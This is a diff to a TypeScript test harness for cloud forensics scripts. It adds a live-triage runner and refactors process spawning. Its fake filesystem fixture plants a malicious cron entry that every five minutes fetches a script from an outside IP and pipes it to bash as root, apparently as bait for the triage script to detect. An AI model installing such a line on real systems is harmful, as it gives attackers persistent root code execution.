@@ -28,15 +28,9 @@ import { evidenceKeyArn, SEEDED, toolsBucketName } from '../../../sandbox/aws/se
  * fake implementing the pinned version's CLI (current or legacy) and its failure modes, delivered through
  * the tools bucket as the deploy delivers the real one.
  */
-export const SCRIPT = join(
-  import.meta.dirname,
-  '..',
-  '..',
-  '..',
-  'workflows',
-  'scripts',
-  'capture-memory.sh',
-);
+const SCRIPTS = join(import.meta.dirname, '..', '..', '..', 'workflows', 'scripts');
+export const SCRIPT = join(SCRIPTS, 'capture-memory.sh');
+export const TRIAGE_SCRIPT = join(SCRIPTS, 'live-triage.sh');
 export const INSTANCE = SEEDED.instances.demo;
 export const CASE_ID = 'CASE-20261204-AB12';
 export const KERNEL = '6.1.94-99.176.amzn2023.x86_64';
@@ -105,6 +99,8 @@ export interface CaptureInstance {
     /** A command the script runs under (e.g. strace and its options). */
     wrap?: string[],
   ): Promise<RunResult>;
+  /** Runs workflows/scripts/live-triage.sh (the real /proc of this machine; passwd and crontabs from the fake root). */
+  runTriage(params?: Record<string, string>, env?: Record<string, string>): Promise<RunResult>;
   stop(): Promise<void>;
 }
 
@@ -163,6 +159,15 @@ export async function captureInstance(options: CaptureInstanceOptions = {}): Pro
   writeFileSync(join(root, 'proc/kcore'), '');
   truncateSync(join(root, 'proc/kcore'), 64 * 1024);
   writeFileSync(join(root, 'proc/kallsyms'), 'ffffffff81000000 T _text\nffffffff81000100 T startup_64\n');
+  writeFileSync(
+    join(root, 'etc/passwd'),
+    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n',
+  );
+  mkdirSync(join(root, 'etc/cron.d'));
+  writeFileSync(
+    join(root, 'etc/cron.d/planted'),
+    '*/5 * * * * root curl -s http://203.0.113.9/x.sh | bash\n',
+  );
   writeFileSync(join(root, 'etc/os-release'), 'NAME="Amazon Linux"\nVERSION="2023"\nID="amzn"\n');
   writeFileSync(join(root, `boot/System.map-${KERNEL}`), 'ffffffff81000000 T _text\n');
   writeFileSync(join(root, 'sys/kernel/btf/vmlinux'), randomBytes(4096));
@@ -263,6 +268,52 @@ server.listen(port, '127.0.0.1');
   let n = 0;
   const key = (suffix = '') => `${CASE_ID}/memory/${INSTANCE}-20261204T100000Z-${suffix || String(++n)}.lime`;
 
+  function exec(
+    script: string,
+    parameters: Record<string, string>,
+    env: Record<string, string>,
+    onStart?: (pid: number) => void,
+    wrap: string[] = [],
+  ): Promise<RunResult> {
+    const [command, ...args] = [...wrap, 'bash', script];
+    const child = spawn(command!, args, {
+      env: {
+        PATH: `${bin}:/usr/bin:/bin:/usr/sbin:/sbin`,
+        HOME: dir,
+        LANG: 'C.UTF-8',
+        ...Object.fromEntries(Object.entries(parameters).map(([k, v]) => [`SSM_${k}`, v])),
+        AWS_ACCESS_KEY_ID: credentials.accessKeyId,
+        AWS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
+        AWS_SESSION_TOKEN: credentials.sessionToken,
+        AWS_CA_BUNDLE: tlsCert,
+        AWS_CONFIG_FILE: '/dev/null',
+        AWS_SHARED_CREDENTIALS_FILE: '/dev/null',
+        AWS_EC2_METADATA_DISABLED: 'true',
+        FORENSICS_ROOT: root,
+        FORENSICS_WORK_DIR: work,
+        FAKE_IMAGE: join(dir, 'image.lime'),
+        ...env,
+      },
+    });
+    onStart?.(child.pid!);
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d) => (stdout += d));
+    child.stderr.on('data', (d) => (stderr += d));
+    return new Promise((resolve) =>
+      child.on('close', (code) => {
+        const last = stdout.trim().split('\n').pop() ?? '';
+        let result: Record<string, unknown> | undefined;
+        try {
+          result = last.startsWith('{') ? JSON.parse(last) : undefined;
+        } catch {
+          result = undefined;
+        }
+        resolve({ key: parameters.Key!, code, stdout, stderr, result });
+      }),
+    );
+  }
+
   return {
     org,
     endpoint,
@@ -278,53 +329,36 @@ server.listen(port, '127.0.0.1');
     limeSha256,
     key,
     run(params = {}, env = {}, onStart, wrap = []) {
-      const parameters: Record<string, string> = {
-        CaseId: CASE_ID,
-        Bucket: evidenceBucket,
-        Key: key(),
-        Region: 'us-east-1',
-        KmsKeyId: kmsKeyId,
-        ToolsUri: `s3://${toolsBucketName(org.settings.forensicsAccount)}/avml/`,
-        AvmlSha256: avmlSha256,
-        Tool: 'auto',
-        ...params,
-      };
-      const [command, ...args] = [...wrap, 'bash', SCRIPT];
-      const child = spawn(command!, args, {
-        env: {
-          PATH: `${bin}:/usr/bin:/bin:/usr/sbin:/sbin`,
-          HOME: dir,
-          LANG: 'C.UTF-8',
-          ...Object.fromEntries(Object.entries(parameters).map(([k, v]) => [`SSM_${k}`, v])),
-          AWS_ACCESS_KEY_ID: credentials.accessKeyId,
-          AWS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
-          AWS_SESSION_TOKEN: credentials.sessionToken,
-          AWS_CA_BUNDLE: tlsCert,
-          AWS_CONFIG_FILE: '/dev/null',
-          AWS_SHARED_CREDENTIALS_FILE: '/dev/null',
-          AWS_EC2_METADATA_DISABLED: 'true',
-          FORENSICS_ROOT: root,
-          FORENSICS_WORK_DIR: work,
-          FAKE_IMAGE: join(dir, 'image.lime'),
-          ...env,
+      return exec(
+        SCRIPT,
+        {
+          CaseId: CASE_ID,
+          Bucket: evidenceBucket,
+          Key: key(),
+          Region: 'us-east-1',
+          KmsKeyId: kmsKeyId,
+          ToolsUri: `s3://${toolsBucketName(org.settings.forensicsAccount)}/avml/`,
+          AvmlSha256: avmlSha256,
+          Tool: 'auto',
+          ...params,
         },
-      });
-      onStart?.(child.pid!);
-      let stdout = '';
-      let stderr = '';
-      child.stdout.on('data', (d) => (stdout += d));
-      child.stderr.on('data', (d) => (stderr += d));
-      return new Promise((resolve) =>
-        child.on('close', (code) => {
-          const last = stdout.trim().split('\n').pop() ?? '';
-          let result: Record<string, unknown> | undefined;
-          try {
-            result = last.startsWith('{') ? JSON.parse(last) : undefined;
-          } catch {
-            result = undefined;
-          }
-          resolve({ key: parameters.Key!, code, stdout, stderr, result });
-        }),
+        env,
+        onStart,
+        wrap,
+      );
+    },
+    runTriage(params = {}, env = {}) {
+      return exec(
+        TRIAGE_SCRIPT,
+        {
+          CaseId: CASE_ID,
+          Bucket: evidenceBucket,
+          Key: key().replace(/\.lime$/, '.triage.tar'),
+          Region: 'us-east-1',
+          KmsKeyId: kmsKeyId,
+          ...params,
+        },
+        { AWS_SSM_INSTANCE_ID: INSTANCE, ...env },
       );
     },
     async stop() {
